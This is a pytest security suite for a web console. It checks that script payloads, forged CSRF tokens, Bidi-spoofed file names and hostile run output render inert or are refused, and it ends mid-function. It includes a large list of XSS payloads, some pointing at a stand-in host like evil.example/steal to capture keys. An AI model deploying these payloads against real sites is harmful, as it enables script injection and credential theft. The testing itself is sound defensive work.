"""Attacks on the web console at ``/ui``: script through everything untrusted a page shows, forged requests, stolen,
fixed, stale and surplus sessions, one team reaching another's objects, redirects off the site, paths out of their
folders, missing security headers, odd input that could make a 500, and bodies past their bounds.

Every test drives the real API app (``create_app``, its middleware, the console's routes, sessions and templates)
in-process through ``httpx.ASGITransport`` with the app's lifespan running, signed in the way a browser is (the
login form's double-submit cookie, then the session cookie). Runs are never executed here: the dispatcher only
accepts them (``submit`` records the run), and the runs whose pages are attacked are planted in its run store with
the output, files, events and artifacts an attacking skill could produce. Each test's name says what it defends;
a test marked ``xfail(strict=True)`` would be an attack that still gets through (its reason saying what); none is.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import io
import json
import re
import secrets
import tarfile
import time
import urllib.parse
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import httpx
import pytest
from markdown_it import MarkdownIt
from starlette.exceptions import HTTPException

from orchestrator.api import create_app, run_ids
from orchestrator.api.limits import JSON_BODY_BYTES, UPLOAD_BODY_BYTES, BodyLimitMiddleware, body_limit
from orchestrator.console import render
from orchestrator.console.sessions import BaseConsoleSessions, MemoryConsoleSessions, RedisConsoleSessions
from worker.contract import OutputFile, RunRequest, RunResult, RuntimeName, SkillRef, SkippedFile
from worker.run_store import RunEvent, RunRecord, RunStatus

MiB = 1024 * 1024
HOST = "console.test"
SESSION_COOKIE = "skillrun_session"
LOGIN_COOKIE = "skillrun_login"
TEAMS = ("team-a", "team-b")
DESIGN_CSP = ("default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; "
              "form-action 'self'; frame-ancestors 'none'; base-uri 'none'")
"""The policy the design gives every console page (written out here, so that a weaker one in the code fails)."""
REFERRER_POLICIES = {"no-referrer", "same-origin"}
"""The design says no-referrer; same-origin (the code's choice, so that form posts carry a real Origin) also keeps
every address of the console from other sites."""
EIGHT_HOURS = 8 * 3600
PER_TEAM = 50
SKILL = "python-math"
"""A skill of the repo's library (what a team without libraries of its own sees)."""
BIDI_CONTROLS = ["\u061c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
                 "\u2066", "\u2067", "\u2068", "\u2069"]
"""Unicode's Bidi_Control characters: each can reorder what a page shows (Trojan Source, spoofed extensions)."""


# ----------------------------------------------------------------------------------------------------------------
# The console, browsers and planted objects


@dataclass
class Console:
    app: object
    services: object
    keys: dict[str, str]
    key_ids: dict[str, str]
    tmp: Path

    def client(self, https: bool = False) -> httpx.AsyncClient:
        return httpx.AsyncClient(transport=httpx.ASGITransport(app=self.app),
                                 base_url=f"{'https' if https else 'http'}://{HOST}", follow_redirects=False)

    @property
    def sessions(self) -> BaseConsoleSessions:
        return self.app.state.console_sessions

    async def browser(self, team: str | None = "team-a", https: bool = False) -> Browser:
        """A browser (an httpx client keeping cookies), signed in as ``team`` unless it is ``None``."""
        browser = Browser(self.client(https))
        if team is not None:
            await browser.sign_in(self.keys[team])
        return browser


@dataclass
class Browser:
    http: httpx.AsyncClient
    csrf: str = ""

    async def sign_in(self, key: str) -> httpx.Response:
        form = await self.http.get("/ui/login")
        answer = await self.http.post("/ui/login", data={"key": key, "csrf": csrf_of(form.text)})
        assert answer.status_code == 303 and answer.headers["location"] == "/ui/skills", answer.text
        self.csrf = csrf_of((await self.http.get("/ui/skills")).text)
        return answer

    @property
    def token(self) -> str:
        return self.http.cookies.get(SESSION_COOKIE, domain=HOST, path="/ui") or ""

    def get(self, url: str, **kwargs) -> Awaitable[httpx.Response]:
        return self.http.get(url, **kwargs)

    def post(self, url: str, **kwargs) -> Awaitable[httpx.Response]:
        return self.http.post(url, **kwargs)

    async def form(self, url: str, fields: dict[str, str] | None = None, **kwargs) -> httpx.Response:
        """A form POST carrying the session's CSRF token."""
        return await self.http.post(url, data={"csrf": self.csrf, **(fields or {})}, **kwargs)


def csrf_of(page: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', page)
    assert found, f"no csrf field in the page:\n{page[:2000]}"
    return found[1]


def cookie_client(console: Console, token: str) -> httpx.AsyncClient:
    """A fresh client sending ``token`` as the session cookie (a stolen or replayed cookie)."""
    client = console.client()
    client.cookies.set(SESSION_COOKIE, token, domain=HOST, path="/ui")
    return client


@pytest.fixture
async def console(services, tmp_path) -> Console:
    """The API app with the console, teams ``team-a`` and ``team-b`` (a key each), its lifespan running. Runs
    submitted are accepted (recorded, queued) but never executed."""
    keys, key_ids = {}, {}
    for team in TEAMS:
        services.teams.create_team(team)
        record, keys[team] = services.teams.create_key(team)
        key_ids[team] = record.id
    dispatcher = services.dispatcher

    async def accept_only(request, *, trusted=False, priority=False, owner=None):
        record, _ = await dispatcher._accept(request, owner)
        return record

    dispatcher.submit = accept_only
    app = create_app(services=services)
    started, stop = asyncio.Event(), asyncio.Event()

    async def lifespan() -> None:  # in a task of its own: the fixture's setup and teardown run in different tasks
        async with app.router.lifespan_context(app):
            started.set()
            await stop.wait()

    task = asyncio.create_task(lifespan())
    while not started.is_set():
        if task.done():
            task.result()
        await asyncio.sleep(0.001)
    yield Console(app=app, services=services, keys=keys, key_ids=key_ids, tmp=tmp_path)
    stop.set()
    await task


@pytest.fixture(params=["memory", "redis"])
async def any_store(request, console) -> Console:
    """The console with its sessions in memory (the embedded default), then in a real Redis."""
    if request.param == "redis":
        memory = console.sessions
        store = RedisConsoleSessions(request.getfixturevalue("redis_url"), ttl_seconds=memory.ttl_seconds,
                                     per_team=memory.per_team)
        console.app.state.console_sessions = store
        yield console
        await store.aclose()
    else:
        yield console


def digest(token: str) -> str:
    return hashlib.sha256(token.encode()).hexdigest()


async def stored(sessions: BaseConsoleSessions, token: str) -> object | None:
    """The session the store holds under ``token``'s digest, whether expired or not."""
    return await sessions._get(digest(token))


def plant_run(console: Console, team: str, status: RunStatus = RunStatus.FINISHED, *, skill: str = SKILL,
              error: str | None = None, reason: str | None = None, **result) -> str:
    """A run of ``team`` in the run store as an attacking skill could leave it: queued, or ended with ``result``."""
    store = console.services.dispatcher.store
    run_id = run_ids.mint(team)
    workspace = f"{team}.{secrets.token_hex(8)}"
    store.create(RunRequest(run_id=run_id, skill=SkillRef(name=skill, root=str(console.tmp), path=skill),
                            command="planted", workspace_id=workspace, keep_workspace=False), owner=team)
    if status == RunStatus.QUEUED:
        return run_id
    artifacts = []
    for name, data, mime in result.pop("artifacts", []):
        artifacts.append(console.services.artifact_store.save_bytes(workspace, name, data, mime))

    def end(record: RunRecord) -> RunEvent:
        record.status, record.error = status, error
        record.started_at = record.finished_at = time.time()
        if status == RunStatus.STARTED:
            record.finished_at = None
            return RunEvent(type="started")
        record.result = RunResult(exit_code=0, run_id=run_id, workspace_id=workspace, runtime=RuntimeName.LOCAL,
                                  artifact_files=artifacts, **result)
        return RunEvent(type=status.value, data={"reason": reason} if reason else {})

    store.update(run_id, end)
    return run_id


def text_file(name: str, content: str, mime: str = "text/plain") -> OutputFile:
    return OutputFile(name=name, content=content, mime_type=mime, size=len(content.encode()))


def binary_file(name: str, data: bytes, mime: str) -> OutputFile:
    return OutputFile(name=name, content=base64.b64encode(data).decode(), encoding="base64", mime_type=mime,
                      size=len(data))


def tar_gz(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def skill_md(name: str, body: str, description: str | None = None) -> bytes:
    description = json.dumps(description or f"The {name} skill.")
    return f"---\nname: {name}\ndescription: {description}\n---\n{body}".encode()


def install_library(console: Console, team: str, name: str, files: dict[str, bytes],
                    filename: str = "lib.tar.gz") -> None:
    """A new current version of ``team``'s library ``name`` holding ``files``."""
    archive = console.tmp / f"{secrets.token_hex(4)}.tar.gz"
    archive.write_bytes(tar_gz(files))
    console.services.libraries.add_from_file(team, name, archive, filename)


async def asgi(app, method: str, raw_path: str, headers: list[tuple[str, str]] | None = None,
               body: bytes = b"") -> tuple[int, dict[str, str], bytes]:
    """One request straight to the ASGI app with ``raw_path`` exactly as sent (no client normalising ``..``)."""
    path, _, query = raw_path.partition("?")
    messages: list[dict] = []
    sent = False

    async def receive() -> dict:
        nonlocal sent
        if not sent:
            sent = True
            return {"type": "http.request", "body": body, "more_body": False}
        await asyncio.sleep(3600)
        return {"type": "http.disconnect"}

    async def send(message: dict) -> None:
        messages.append(message)

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "scheme": "http",
             "path": urllib.parse.unquote(path), "raw_path": path.encode(), "query_string": query.encode(),
             "root_path": "", "server": (HOST, 80), "client": ("203.0.113.9", 40000),
             "headers": [(b"host", HOST.encode()), *((k.lower().encode(), v.encode()) for k, v in headers or [])]}
    await app(scope, receive, send)
    start = next(m for m in messages if m["type"] == "http.response.start")
    answer = b"".join(m.get("body", b"") for m in messages if m["type"] == "http.response.body")
    return start["status"], {k.decode().lower(): v.decode() for k, v in start["headers"]}, answer


# ----------------------------------------------------------------------------------------------------------------
# What in a page could run script


_SAFE_SCHEMES = {"http", "https", "mailto"}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset",
                   "ping", "cite", "codebase", "dynsrc", "lowsrc"}
_NEVER = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "svg", "math", "template",
          "portal", "noembed", "xmp", "plaintext", "listing", "isindex"}


class _ActiveContent(HTMLParser):
    """Everything in an HTML document or fragment that could run script or leave the page other than the console's
    own markup (its one script, stylesheet, meta tags and forms posting to ``/ui``)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in _NEVER:
            self.found.append(f"<{tag}>")
        elif tag == "script" and values != {"src": "/ui/static/console.js", "defer": ""}:
            self.found.append(f"<script {values}>")
        elif tag == "link" and values != {"rel": "stylesheet", "href": "/ui/static/console.css"}:
            self.found.append(f"<link {values}>")
        elif tag == "meta" and not (values.keys() == {"charset"} or values.get("name") == "viewport"
                                    or values == {"http-equiv": "refresh", "content": "3"}):
            self.found.append(f"<meta {values}>")
        elif tag == "form" and not values.get("action", "").startswith("/ui/"):
            self.found.append(f"<form {values}>")
        for name, value in values.items():
            if name.startswith("on") or name in {"srcdoc", "style", "formaction", "http-equiv"} and tag != "meta":
                self.found.append(f"{tag}[{name}={value!r}]")
            if name in _URL_ATTRIBUTES:
                compact = re.sub(r"[\x00-\x20\x7f]", "", value).lower()
                scheme = re.match(r"^([a-z][a-z0-9+.\-]*):", compact)
                if scheme and scheme[1] not in _SAFE_SCHEMES:
                    self.found.append(f"{tag}[{name}={value!r}]")

    handle_startendtag = handle_starttag


def active_content(html: str) -> list[str]:
    parser = _ActiveContent()
    parser.feed(html)
    parser.close()
    return parser.found


class _Text(HTMLParser):
    """A page's text as a reader sees it: its text nodes (``<title>`` apart) and its ``alt`` and ``title``
    attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.body: list[str] = []
        self.title: list[str] = []
        self.attributes: list[str] = []
        self._in_title = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_title = tag == "title"
        self.attributes += [value or "" for name, value in attrs if name in {"alt", "title", "placeholder"}]

    def handle_endtag(self, tag: str) -> None:
        self._in_title = False

    def handle_data(self, data: str) -> None:
        (self.title if self._in_title else self.body).append(data)


def page_text(html: str) -> _Text:
    parser = _Text()
    parser.feed(html)
    parser.close()
    return parser


_RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f" + "".join(BIDI_CONTROLS) + "]")


def raw_controls(text: str) -> list[str]:
    return [f"U+{ord(c):04X}" for c in _RAW_CONTROL.findall(text)]


# ----------------------------------------------------------------------------------------------------------------
# 1. Script through skill bodies and docs (Markdown)


MARKDOWN_PAYLOADS = {
    "raw-script": "<script>alert(1)</script>",
    "raw-img-onerror": "<img src=x onerror=alert(1)>",
    "raw-svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "raw-iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "raw-details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "raw-anchor-javascript": '<a href="javascript:alert(1)">x</a>',
    "raw-handler-on-allowed-tag": ('<a href="https://example.com" onclick="alert(1)">x</a>'
                                   '<p onmouseover="alert(1)">p</p>'),
    "raw-style-attribute": '<span style="position:fixed;inset:0;background:url(javascript:alert(1))">x</span>',
    "raw-code-class-and-handler": '<code class="x" onfocus="alert(1)" autofocus tabindex="0">x</code>',
    "raw-style": "<style>body{background:url(https://evil.example/leak)}</style>",
    "raw-meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "raw-base": '<base href="https://evil.example/">',
    "raw-form": '<form action="https://evil.example/steal"><input name="key"><button>Sign in</button></form>',
    "raw-object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "comment-breakout": "<!-- a --><script>alert(1)</script><!-- b -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "inline-block-html": "<div>\n<img src=x onerror=alert(1)>\n</div>",
    "link-javascript": "[x](javascript:alert(1))",
    "link-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "link-decimal-entity": "[x](&#106;avascript:alert(1))",
    "link-hex-entity": "[x](&#x6A;&#x61;vascript:alert(1))",
    "link-entity-colon": "[x](javascript&#58;alert(1))",
    "link-named-colon": "[x](javascript&colon;alert(1))",
    "link-entity-tab": "[x](jav&#x09;ascript:alert(1))",
    "link-entity-newline": "[x](java&NewLine;script:alert(1))",
    "link-leading-control": "[x](<\x01javascript:alert(1)>)",
    "link-angle-brackets": "[x](<javascript:alert(1)>)",
    "link-percent-scheme": "[x](%6a%61vascript:alert(1))",
    "link-vbscript": "[x](vbscript:msgbox(1))",
    "link-data-html": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "image-javascript": "![x](javascript:alert(1))",
    "image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image-data-png": ("![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4"
                       "DwABBAEAwS2OUAAAAABJRU5ErkJggg==)"),
    "autolink-javascript": "<javascript:alert(1)>",
    "autolink-data": "<data:text/html,<script>alert(1)</script>>",
    "autolink-vbscript": "<vbscript:msgbox(1)>",
    "reference-javascript": "[x][r]\n\n[r]: javascript:alert(1)",
    "reference-image-javascript": "![x][r]\n\n[r]: javascript:alert(1)",
    "reference-entity": "[x][r]\n\n[r]: &#106;avascript:alert(1) \"t\"",
    "title-quote-breakout": '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
    "title-html": '[x](https://example.com "<script>alert(1)</script>")',
    "alt-quote-breakout": '![" onerror="alert(1)](https://example.com/x.png)',
    "fence-class-breakout": '```"><script>alert(1)</script>\ncode\n```',
    "fence-attribute-breakout": '```x" onmouseover="alert(1)\ncode\n```',
    "table-cell-html": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "link-text-html": "[<img src=x onerror=alert(1)>](https://example.com)",
    "nested-image-link": "[![x](javascript:alert(1))](javascript:alert(1))",
}


def _payload_skill(console: Console, team: str, payload: str) -> None:
    install_library(console, team, "attack", {
        "evil/SKILL.md": skill_md("evil", f"# Evil\n\n{payload}\n\nafter\n"),
        "evil/reference.md": f"# Reference\n\n{payload}\n".encode(),
        "evil/notes.txt": payload.encode(),
    })


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS.values(), ids=MARKDOWN_PAYLOADS.keys())
async def test_skill_body_and_docs_with_script_payloads_render_inert(console, payload):
    _payload_skill(console, "team-a", payload)
    browser = await console.browser()
    for path in ("/ui/skills/evil", "/ui/skills/evil/docs/reference.md", "/ui/skills/evil/docs/notes.txt"):
        page = await browser.get(path)
        assert page.status_code == 200, (path, page.text)
        assert active_content(page.text) == [], (path, active_content(page.text))
        assert "after" in page.text or path.endswith((".md", ".txt"))  # the page went on past the payload


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS.values(), ids=MARKDOWN_PAYLOADS.keys())
def test_the_sanitiser_alone_removes_script_should_markdown_it_ever_pass_raw_html(monkeypatch, payload):
    """Defence in depth: with markdown-it's raw HTML turned on (a regression), nh3 still leaves nothing active."""
    monkeypatch.setattr(render, "_markdown", MarkdownIt("commonmark", {"html": True}).enable("table"))
    assert active_content(str(render.markdown(payload))) == []


_MARKDOWN_IT_ALONE = {k: v for k, v in MARKDOWN_PAYLOADS.items() if k != "image-data-png"}
"""markdown-it lets ``data:image/png`` images through (nh3 drops them); every other payload it stops alone."""


@pytest.mark.parametrize("payload", _MARKDOWN_IT_ALONE.values(), ids=_MARKDOWN_IT_ALONE.keys())
def test_markdown_it_alone_keeps_raw_html_as_text_should_the_sanitiser_be_bypassed(monkeypatch, payload):
    """Defence in depth the other way: without nh3, markdown-it (raw HTML off, its link check) leaves nothing
    active."""
    monkeypatch.setattr(render.nh3, "clean", lambda html, **_: html)
    assert active_content(str(render.markdown(payload))) == []


def test_the_sanitiser_keeps_safe_links_code_and_tables():
    """The inert-payload tests would pass on a renderer that drops everything: safe Markdown must survive."""
    html = str(render.markdown("[ok](https://example.com/a?b=1&c=2) [rel](other.md) [m](mailto:a@example.com)\n\n"
                               "```python\nprint(1)\n```\n\n| a |\n|---|\n| 1 |\n"))
    assert '<a href="https://example.com/a?b=1&amp;c=2"' in html and 'href="other.md"' in html
    assert 'href="mailto:a@example.com"' in html and 'rel="noopener noreferrer nofollow"' in html
    assert '<code class="language-python">' in html and "<td>1</td>" in html


async def test_doc_file_names_with_markup_and_quotes_are_text_and_their_links_still_work(console):
    names = ['"><img src=x onerror=alert(1)>.md', "<script>alert(1)<\u200b/script>.txt", "it's \"quoted\".md",
             "a&amp;b.md"]
    install_library(console, "team-a", "attack", {
        "evil/SKILL.md": skill_md("evil", "Body.\n", description="<script>alert('description')</script>"),
        **{f"evil/{name}": f"doc {i} <script>alert({i})</script>\n".encode() for i, name in enumerate(names)},
    })
    browser = await console.browser()
    page = await browser.get("/ui/skills/evil")
    assert page.status_code == 200 and active_content(page.text) == []
    assert "&lt;script&gt;alert(&#39;description&#39;)&lt;/script&gt;" in page.text
    links = re.findall(r'<a class="doc" href="([^"]+)">', page.text)
    assert len(links) == len(names)
    for link in links:  # each doc's link, as the page writes it, opens that doc
        doc = await browser.get(link)
        assert doc.status_code == 200, (link, doc.text)
        assert active_content(doc.text) == [] and "&lt;script&gt;alert(" in doc.text


async def test_library_source_and_names_from_an_upload_are_text(console):
    install_library(console, "team-a", "attack", {"evil/SKILL.md": skill_md("evil", "x\n")},
                    filename='"><script>alert(1)</script><img src=x onerror=alert(2)>.tar.gz')
    browser = await console.browser()
    page = await browser.get("/ui/libraries")
    assert page.status_code == 200 and active_content(page.text) == []
    assert "upload:&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    refused = await browser.form("/ui/libraries/register",
                                 {"name": '<script>alert(1)</script>', "url": "http://127.0.0.1:9/a.tar.gz"})
    assert refused.status_code == 422 and active_content(refused.text) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in refused.text
    upload = await browser.post("/ui/libraries/upload", data={"csrf": browser.csrf, "name": "evil-upload"}, files={
        "archive": ('"><svg onload=alert(1)>.tar.gz', tar_gz({"../<script>alert(1)</script>": b"x"}))})
    assert upload.status_code == 422 and active_content(upload.text) == [], upload.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in upload.text  # the archive's refusal names the entry, as text


# ----------------------------------------------------------------------------------------------------------------
# 2. Script through run output, output file names and files, events, errors echoed into pages


HOSTILE_FILES = [
    text_file('out/"><script>alert(1)</script>.txt', "<script>alert('preview')</script>"),
    binary_file("out/a' onerror='alert(1).png", b"\x89PNG\r\n\x1a\n" + b"\0" * 16, "image/png"),
    text_file("out/page.html", "<script>alert('HTML-FILE-CONTENT')</script>", "text/html"),
    text_file("out/page.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert('XHTML-FILE-CONTENT')"
                                "</script></html>", "application/xhtml+xml"),
    text_file("out/pic.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\"SVG-FILE-CONTENT\")'/>",
              "image/svg+xml"),
    text_file("out/feed.xml", "<x><script>alert('XML-FILE-CONTENT')</script></x>", "text/xml"),
    text_file("out/sneaky.png", "<svg onload='alert(\"SVG-AS-PNG-CONTENT\")'/>", "image/svg+xml; charset=utf-8"),
    text_file("out/tabs\t&lt;b&gt;.csv", "a,<b>b</b>\n", "text/csv"),
]


def _hostile_run(console: Console, team: str = "team-a") -> str:
    return plant_run(
        console, team, RunStatus.FAILED,
        stdout="<script>alert('stdout')</script>\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
        stderr="</pre><script>alert('stderr')</script><pre>\x1b]0;title\x07",
        error="<img src=x onerror=alert('error')>", reason="<script>alert('reason')</script>",
        output_files=HOSTILE_FILES,
        skipped_files=[SkippedFile(name="<script>alert('skipped')</script>", reason="<b onmouseover=alert(1)>")],
        artifacts=[('"><svg onload=alert(1)>.html', b"<script>alert('artifact')</script>", "text/html")],
    )


async def test_run_output_file_names_events_and_errors_render_as_text(console):
    run_id = _hostile_run(console)
    browser = await console.browser()
    page = await browser.get(f"/ui/runs/{run_id}")
    assert page.status_code == 200
    assert active_content(page.text) == []
    for shown in ("alert(&#39;stdout&#39;)", "alert(&#39;stderr&#39;)", "alert(&#39;error&#39;)",
                  "alert(&#39;reason&#39;)", "alert(&#39;skipped&#39;)", "alert(&#39;preview&#39;)"):
        assert shown in page.text, shown  # shown, as text
    assert "\x1b" not in page.text and "\\x1b[31m" in page.text and "\\x07" in page.text


async def test_html_svg_and_xml_outputs_are_never_shown_inline_and_download_as_attachments(console):
    run_id = _hostile_run(console)
    browser = await console.browser()
    page = (await browser.get(f"/ui/runs/{run_id}")).text
    previews = re.findall(r'<img class="preview" src="([^"]+)"', page)
    assert [urllib.parse.unquote(p.rsplit("/files/", 1)[1]) for p in previews] == ["out/a' onerror='alert(1).png"]
    for marker in ("HTML-FILE", "XHTML-FILE", "SVG-FILE", "XML-FILE", "SVG-AS-PNG"):
        assert marker not in page, f"the content of the file with {marker!r} is on the run page"
    for file in HOSTILE_FILES:
        answer = await browser.get(f"/ui/runs/{run_id}/files/{urllib.parse.quote(file.name)}")
        assert answer.status_code == 200, (file.name, answer.text)
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"].split(";")[0]
        base = file.mime_type.split(";")[0]
        if base in {"text/html", "application/xhtml+xml", "image/svg+xml", "text/xml"}:
            assert answer.headers["content-disposition"].startswith("attachment"), file.name
    artifact_name = urllib.parse.quote('"><svg onload=alert(1)>.html')
    artifact = await browser.get(f"/ui/runs/{run_id}/artifacts/{artifact_name}")
    assert artifact.status_code == 200 and artifact.content == b"<script>alert('artifact')</script>"
    assert artifact.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in artifact.headers["content-security-policy"]


async def test_echoed_form_values_queries_and_paths_are_escaped(console):
    browser = await console.browser()
    script = '"><script>alert(1)</script>'
    run = await browser.form(f"/ui/skills/{SKILL}/run", {
        "command": script, "env": f"{script}\nX", "output_files": script, "timeout": script})
    assert run.status_code == 422, run.text
    echoes = [
        run,
        await browser.get("/ui/skills", params={"q": script}),
        await browser.get("/ui/runs", params={"skill": script[:60]}),
        await browser.get("/ui/runs", params={"status": "<svg/onload=alert(1)>"}),
        await browser.form("/ui/libraries/%3Cscript%3Ealert(1)%3C%2Fscript%3E/current", {"version": "1"}),
        await browser.form("/ui/libraries/lib/current", {"version": script[:12]}),
        await browser.get(f"/ui/skills/{SKILL}/docs/{urllib.parse.quote(script)}"),
        await browser.get(f"/ui/runs/{run_ids.mint('team-a')[:-1]}x/files/{urllib.parse.quote(script)}"),
        await browser.get(f"/ui/runs/{urllib.parse.quote(script)}"),
    ]
    for answer in echoes:
        assert answer.status_code < 500 and active_content(answer.text) == [], (answer.url, answer.text)
        assert "<script>alert(1)" not in answer.text and "<svg/onload" not in answer.text
    assert "&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in run.text  # the bad command is shown back, as text


async def test_run_events_stream_cannot_be_forged_by_a_failure_reason(console):
    run_id = plant_run(console, "team-a", RunStatus.FAILED,
                       reason="x\n\nevent: finished\ndata: {\"type\": \"finished\"}\n\nevent: lost\ndata: {}\n")
    browser = await console.browser()
    stream = await browser.get(f"/ui/runs/{run_id}/events")
    assert stream.status_code == 200 and stream.headers["content-type"].startswith("text/event-stream")
    events = re.findall(r"^event: (.*)$", stream.text, re.M)
    assert events == ["queued", "failed"], stream.text


# ----------------------------------------------------------------------------------------------------------------
# 3. Bidi and control characters in untrusted names


@pytest.mark.parametrize("char", BIDI_CONTROLS, ids=[f"U+{ord(c):04X}" for c in BIDI_CONTROLS])
def test_visible_escapes_every_unicode_bidi_control(char):
    shown = render.visible(f"report{char}fdp.exe")
    assert char not in shown and f"\\u{ord(char):04x}" in shown


async def test_file_and_doc_names_with_bidi_controls_show_escaped_in_the_page_text(console):
    install_library(console, "team-a", "attack", {
        "evil/SKILL.md": skill_md("evil", "x\n", description="desc \u202egnp.exe"),
        "evil/\u202etxt.exe.md": b"doc\n"})
    run_id = plant_run(console, "team-a", stdout="a\u202eb\u2066c", output_files=[
        binary_file("out/\u202egnp.exe", b"\x89PNG\r\n\x1a\n", "image/png"),
        text_file("out/\u2067x.txt", "t\u202ex")])
    browser = await console.browser()
    for path in ("/ui/skills/evil", f"/ui/runs/{run_id}", "/ui/skills/evil/docs/%E2%80%AEtxt.exe.md"):
        page = await browser.get(path)
        assert page.status_code == 200, page.text
        assert raw_controls("".join(page_text(page.text).body)) == [], path


@pytest.mark.parametrize("where", ["doc-title", "image-alt"])
async def test_names_with_bidi_controls_show_escaped_in_titles_and_alt_text(console, where):
    install_library(console, "team-a", "attack", {"evil/SKILL.md": skill_md("evil", "x\n"),
                                                   "evil/\u202etxt.exe.md": b"doc\n"})
    run_id = plant_run(console, "team-a",
                       output_files=[binary_file("out/\u202egnp.exe", b"\x89PNG\r\n\x1a\n", "image/png")])
    browser = await console.browser()
    if where == "doc-title":
        text = page_text((await browser.get("/ui/skills/evil/docs/%E2%80%AEtxt.exe.md")).text).title
    else:
        text = page_text((await browser.get(f"/ui/runs/{run_id}")).text).attributes
    assert raw_controls("".join(text)) == []


# ----------------------------------------------------------------------------------------------------------------
# 4. Forged requests: every state-changing form needs the session's own CSRF token


@dataclass
class Action:
    """A console form that changes something: how to post it, and whether it changed anything."""

    path: Callable[[Console, dict], str]
    fields: dict[str, str]
    changed: Callable[[Console, dict, Browser], Awaitable[bool]]
    prepare: Callable[[Console], dict] = lambda console: {}
    files: dict | None = None


def _runs_of(console: Console, team: str = "team-a") -> list[RunRecord]:
    return console.services.dispatcher.store.list(None, 1000, owner=team)


def _current(console: Console, team: str, name: str) -> int | None:
    library = console.services.libraries.get(team, name)
    return library.current if library else None


def _two_versions(console: Console) -> dict:
    for n in (1, 2):
        install_library(console, "team-a", "lib", {f"s{n}/SKILL.md": skill_md(f"s{n}", "x\n")})
    return {}


async def _signed_out(console: Console, state: dict, browser: Browser) -> bool:
    return (await browser.get("/ui/skills")).status_code != 200


async def _now(value: bool) -> bool:
    return value


ACTIONS = {
    "logout": Action(lambda c, s: "/ui/logout", {}, _signed_out),
    "run": Action(lambda c, s: f"/ui/skills/{SKILL}/run", {"command": "echo forged"},
                  lambda c, s, b: _now(bool(_runs_of(c)))),
    "cancel": Action(lambda c, s: f"/ui/runs/{s['run']}/cancel", {},
                     lambda c, s, b: _now(c.services.dispatcher.store.get(s["run"]).status != RunStatus.QUEUED),
                     prepare=lambda c: {"run": plant_run(c, "team-a", RunStatus.QUEUED)}),
    "upload": Action(lambda c, s: "/ui/libraries/upload", {"name": "forged"},
                     lambda c, s, b: _now(_current(c, "team-a", "forged") is not None),
                     files={"archive": ("forged.tar.gz", tar_gz({"forged/SKILL.md": skill_md("forged", "x\n")}))}),
    "register": Action(lambda c, s: "/ui/libraries/register",
                       {"name": "forged", "url": "http://127.0.0.1:9/forged.tar.gz"},
                       lambda c, s, b: _now(_current(c, "team-a", "forged") is not None)),
    "make-current": Action(lambda c, s: "/ui/libraries/lib/current", {"version": "1"},
                           lambda c, s, b: _now(_current(c, "team-a", "lib") != 2),
                           prepare=_two_versions),
}


async def _token(console: Console, variant: str, browser: Browser) -> tuple[dict, dict]:
    """The extra form fields and request options that send the CSRF token ``variant`` way."""
    if variant == "missing":
        return {}, {}
    if variant == "empty":
        return {"csrf": ""}, {}
    if variant == "wrong":
        return {"csrf": secrets.token_urlsafe(32)}, {}
    if variant == "truncated":
        return {"csrf": browser.csrf[:-1]}, {}
    if variant == "other-session-same-team":
        return {"csrf": (await console.browser("team-a")).csrf}, {}
    if variant == "other-team-session":
        return {"csrf": (await console.browser("team-b")).csrf}, {}
    if variant == "login-cookie-value":
        login = await console.client().get("/ui/login")
        return {"csrf": login.cookies[LOGIN_COOKIE]}, {}
    if variant == "in-query-string":
        return {}, {"params": {"csrf": browser.csrf}}
    if variant == "in-a-header":
        return {}, {"headers": {"X-CSRF-Token": browser.csrf, "X-CSRFToken": browser.csrf}}
    if variant == "as-a-file-part":
